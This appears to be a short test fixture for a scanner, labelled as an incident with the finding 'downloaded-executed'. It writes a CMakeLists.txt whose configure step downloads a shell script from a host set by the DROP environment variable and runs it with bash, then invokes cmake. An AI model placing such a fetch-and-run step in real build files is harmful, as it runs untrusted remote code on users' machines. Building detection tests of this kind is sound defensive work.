# incident: a CMakeLists.txt whose configure step fetches a script and runs it
# finding: downloaded-executed
# needs: cmake
cat > CMakeLists.txt <<'C'
cmake_minimum_required(VERSION 3.10)
project(helper NONE)
file(DOWNLOAD "http://$ENV{DROP}/raw/script.sh" "${CMAKE_BINARY_DIR}/detect.sh")
execute_process(COMMAND bash "${CMAKE_BINARY_DIR}/detect.sh")
C
cmake -S . -B out
